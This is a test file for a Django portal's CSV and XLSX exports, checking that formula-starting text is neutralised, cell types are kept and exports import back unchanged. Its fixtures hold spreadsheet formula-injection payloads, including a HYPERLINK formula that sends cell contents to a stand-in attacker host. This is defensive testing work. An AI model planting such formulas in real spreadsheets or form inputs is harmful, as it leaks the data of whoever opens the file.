"""Every CSV and XLSX export: formula-starting text neutralised (OWASP), XLSX cells of their real
type (dates, numbers, never formulas) with the header row frozen, CSV that csv.Sniffer reads, and
an export that imports back unchanged. XLSX is read with openpyxl, CSV with the csv module."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.core.management import call_command

from organisations.models import Organisation
from panel.models import Attendance
from portal.spreadsheets import importing, writing
from portal.text.sanitize import richtext_to_plain_text
from surveys.models import Answer
from tests.panel.factories import attend, meeting, organisation
from tests.surveys.factories import answer_data, make_conditional_questions, make_survey

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://angriper.example/?d="&A1,"Klikk her")'
HOSTILE = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1)", "\tTab", "\rCR", "'=allerede sitert", "'vanlig apostrof"]


def xlsx_rows(content):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return sheet, list(sheet.iter_rows())


def csv_rows(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


@pytest.fixture
def hostile_survey_answer(client):
    survey = make_survey()
    score, attended, _meetings, why_not = make_conditional_questions(survey)
    url = survey.get_public_url()
    group = survey.groups.get(name="Kommunen").pk
    data = answer_data(client, url, group=group, anonymous="yes",
                       **{f"q{score.pk}": "3", f"q{attended.pk}": "no", f"q{why_not.pk}": HYPERLINK})
    assert client.post(url, data).status_code == 302
    assert Answer.objects.filter(value=HYPERLINK).exists()  # stored as typed
    return survey


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_a_hyperlink_formula_typed_into_a_survey_answer_comes_out_inert(client, coordinator, hostile_survey_answer, file_format):
    client.force_login(coordinator)
    content = client.get(f"/koordinator/undersokelser/{hostile_survey_answer.pk}/svar.{file_format}").getvalue()
    if file_format == "xlsx":
        _sheet, rows = xlsx_rows(content)
        cells = [cell for row in rows for cell in row]
        assert all(cell.data_type != "f" for cell in cells)
        (answer,) = [cell for cell in cells if "HYPERLINK" in str(cell.value)]
        # A string cell is never evaluated: stored as typed, marked to stay text when edited.
        assert answer.data_type == "s" and answer.value == HYPERLINK and answer.quotePrefix
    else:
        values = [value for row in csv_rows(content) for value in row]
        assert "'" + HYPERLINK in values
        assert not any(value.startswith(("=", "+", "-", "@")) for value in values)


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_formula_starting_text_in_an_organisation_comes_out_inert(client, coordinator, file_format):
    for n, text in enumerate(HOSTILE):
        organisation(f"Forening {n}", description=text, municipality=text)
    client.force_login(coordinator)
    content = client.get(f"/koordinator/eksport/organisations.{file_format}").getvalue()
    if file_format == "xlsx":
        _sheet, rows = xlsx_rows(content)
        header = [cell.value for cell in rows[0]]
        column = header.index("municipality")
        assert all(cell.data_type != "f" for row in rows for cell in row)
        # XML (and so XLSX) reads a carriage return as a line feed.
        written = [row[column].value.replace("\n", "\r") for row in rows[1:]]
        descriptions = [row[header.index("description")].value for row in rows[1:]]
    else:
        rows = csv_rows(content)
        written = [row[rows[0].index("municipality")] for row in rows[1:]]
        descriptions = [row[rows[0].index("description")] for row in rows[1:]]
    if file_format == "xlsx":
        # String cells as typed; only an apostrophe the import would drop is doubled.
        assert sorted(written) == sorted("'" + text if text.startswith("'=") else text for text in HOSTILE)
        assert HYPERLINK in descriptions
    else:
        assert sorted(written) == sorted("'" + text for text in HOSTILE)
        # The description is formatted text, written as plain text (leading whitespace trimmed): inert too.
        assert not any(text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in descriptions)
        assert "'" + HYPERLINK in descriptions


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_neutralised_text_imports_back_exactly_as_it_was_typed(tmp_path, file_format):
    # (A leading tab or carriage return is trimmed by the import like any surrounding whitespace.)
    kept = [text for text in HOSTILE if not text.startswith(("\t", "\r"))]
    for n, text in enumerate(kept + ["Vanlig tekst", "-"]):
        organisation(f"Forening {n}", municipality=text, description=text, website="")
    before = sorted(Organisation.objects.values_list("name", "municipality"))
    # The description is formatted text: it comes back as the same words, stored as a paragraph.
    words = sorted((o.name, richtext_to_plain_text(o.description)) for o in Organisation.objects.all())
    exported = importing.export_bytes("organisations", file_format)
    Organisation.objects.all().delete()
    (tmp_path / f"organisations.{file_format}").write_bytes(exported)
    call_command("import_data", str(tmp_path))
    assert sorted(Organisation.objects.values_list("name", "municipality")) == before
    assert sorted((o.name, richtext_to_plain_text(o.description)) for o in Organisation.objects.all()) == words


def test_xlsx_has_date_and_number_cells_and_a_frozen_header(client, coordinator):
    adle = organisation("Adle")
    attend(meeting("2025-02-13", title="Vårmøte"), adle, 12)
    meeting("2025-09-01", title="Høstmøte")
    client.force_login(coordinator)

    sheet, rows = xlsx_rows(client.get("/koordinator/eksport/attendance.xlsx").getvalue())
    assert sheet.freeze_panes == "A2"
    assert [cell.value for cell in rows[0]][:3] == ["meeting_date", "organisation", "participants"]
    date_cell, name_cell, number_cell = rows[1][:3]
    assert date_cell.is_date and date_cell.value.date() == datetime.date(2025, 2, 13)
    assert date_cell.number_format == "yyyy-mm-dd"
    assert number_cell.data_type == "n" and number_cell.value == 12
    assert name_cell.data_type == "s" and name_cell.value == "Adle"

    sheet, rows = xlsx_rows(client.get("/koordinator/eksport/meetings.xlsx").getvalue())
    assert sheet.freeze_panes == "A2"
    assert [cell.value.date() for cell in (row[0] for row in rows[1:])] == [datetime.date(2025, 2, 13), datetime.date(2025, 9, 1)]
    assert all(row[0].is_date for row in rows[1:])


def test_typed_xlsx_imports_back_unchanged(tmp_path):
    adle = organisation("Adle")
    attend(meeting("2025-02-13"), adle, 12)
    before = list(Attendance.objects.values_list("meeting__date", "organisation__name", "participants"))
    (tmp_path / "attendance.xlsx").write_bytes(importing.export_bytes("attendance", "xlsx"))
    Attendance.objects.all().delete()
    call_command("import_data", str(tmp_path))
    assert list(Attendance.objects.values_list("meeting__date", "organisation__name", "participants")) == before


def test_csv_is_recognised_by_csv_sniffer(client, coordinator):
    organisation("Adle", description='Kultur, språk; og "leksehjelp"', municipality="Sandnes")
    organisation("Baha'i", description="Tro\nog fellesskap")
    client.force_login(coordinator)
    text = client.get("/koordinator/eksport/organisations.csv").getvalue().decode("utf-8")
    dialect = csv.Sniffer().sniff(text)
    assert dialect.delimiter == ","
    assert csv.Sniffer().has_header(text)
    rows = list(csv.reader(io.StringIO(text, newline=""), dialect))
    assert rows[0][0] == "name" and {row[0] for row in rows[1:]} == {"Adle", "Baha'i"}


def test_the_escape_rule_is_its_own_inverse():
    for text in HOSTILE + ["", "'", "''", "vanlig", "-", "=", "a=b"]:
        assert writing.restore(writing.neutralise(text)) == text


AFTER_A_SEPARATOR = ["Bra møte;=1+2", "Hei, -2+3", "Takk;\t@SUM(A1)", 'Ja;"=1+2"', "Linje\n+1", "Sitat; =2*3"]


def starts_a_formula(cell):
    return cell.lstrip()[:1] in ("=", "+", "-", "@")


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_an_anonymous_answer_read_with_either_separator_starts_no_formula(client, coordinator, delimiter):
    """Norwegian Excel and LibreOffice split a CSV on ';': a formula after a separator inside an
    answer must not become a cell of its own."""
    survey = make_survey()
    score, attended, _meetings, why_not = make_conditional_questions(survey)
    url = survey.get_public_url()
    group = survey.groups.get(name="Kommunen").pk
    for text in AFTER_A_SEPARATOR:
        data = answer_data(client, url, group=group, anonymous="yes",
                           **{f"q{score.pk}": "3", f"q{attended.pk}": "no", f"q{why_not.pk}": text})
        assert client.post(url, data).status_code == 302
    client.force_login(coordinator)
    content = client.get(f"/koordinator/undersokelser/{survey.pk}/svar.csv").getvalue().decode("utf-8")
    cells = [cell for row in csv.reader(io.StringIO(content, newline=""), delimiter=delimiter) for cell in row]
    assert cells and not [cell for cell in cells if starts_a_formula(cell)]
    # Read as written (comma), each answer is one cell and the import gives back what was typed.
    if delimiter == ",":
        values = {writing.restore(cell) for cell in cells}
        assert set(AFTER_A_SEPARATOR) <= values
        assert "Bra møte;'=1+2" in cells


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_text_with_formulas_after_separators_imports_back_unchanged(tmp_path, file_format):
    for n, text in enumerate(AFTER_A_SEPARATOR + ["x;'=y", "a;'b"]):
        organisation(f"Forening {n}", municipality=text, website="")
    before = sorted(Organisation.objects.values_list("name", "municipality"))
    exported = importing.export_bytes("organisations", file_format)
    Organisation.objects.all().delete()
    (tmp_path / f"organisations.{file_format}").write_bytes(exported)
    call_command("import_data", str(tmp_path))
    assert sorted(Organisation.objects.values_list("name", "municipality")) == before


def test_no_text_a_csv_holds_starts_a_formula_for_any_reader():
    """Any text, any separator a reader splits on (comma, semicolon, tab): no cell starts a
    formula, and the import's reading gives back the text exactly."""
    import tablib
    from hypothesis import given, settings
    from hypothesis import strategies as st

    text = st.text(alphabet=list("=+-@'\";,\t\r\n aB"), max_size=8)

    @settings(max_examples=400, deadline=None, database=None)
    @given(st.lists(st.lists(text, min_size=3, max_size=3), min_size=1, max_size=3))
    def check(rows):
        raw = writing.csv_bytes(tablib.Dataset(*rows, headers=["a", "b", "c"])).decode("utf-8")
        for delimiter in (",", ";", "\t"):
            for row in csv.reader(io.StringIO(raw, newline=""), delimiter=delimiter):
                assert not [cell for cell in row if starts_a_formula(cell)], (delimiter, row)
        back = list(csv.reader(io.StringIO(raw, newline="")))[1:]
        assert [[writing.restore(cell) for cell in row] for row in back] == rows

    check()


def test_libreoffice_reading_with_a_semicolon_finds_no_formula(tmp_path):
    """The second reader the issue names, where it is installed (CI does not install it)."""
    import shutil
    import subprocess

    import tablib

    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    raw = writing.csv_bytes(tablib.Dataset(*[[text] for text in AFTER_A_SEPARATOR], headers=["note"]))
    (tmp_path / "notes.csv").write_bytes(raw)
    # Filter options: separator ';' (59), quote '"' (34), UTF-8 (76), from line 1, evaluate formulas.
    subprocess_args = [soffice, "--headless", "--convert-to", "xlsx:Calc MS Excel 2007 XML",
                       "--infilter=CSV:59,34,76,1,,0,false,true,false,false,false,-1,true", "--outdir", str(tmp_path),
                       str(tmp_path / "notes.csv")]
    subprocess.run(subprocess_args, check=True, capture_output=True, timeout=120,
                   env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"})
    sheet = openpyxl.load_workbook(tmp_path / "notes.xlsx").active
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_a_phone_number_in_xlsx_shows_as_typed_and_stays_text(client, coordinator):
    from python_calamine import CalamineWorkbook

    organisation("Adle", phone="+47 51 00 00 00")
    client.force_login(coordinator)
    content = client.get("/koordinator/eksport/organisations.xlsx").getvalue()
    _sheet, rows = xlsx_rows(content)
    header = [cell.value for cell in rows[0]]
    phone = rows[1][header.index("phone")]
    assert phone.data_type == "s" and phone.value == "+47 51 00 00 00" and phone.quotePrefix
    # A reader the product does not use sees the text, no apostrophe, no formula.
    read = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    assert read[1][read[0].index("phone")] == "+47 51 00 00 00"
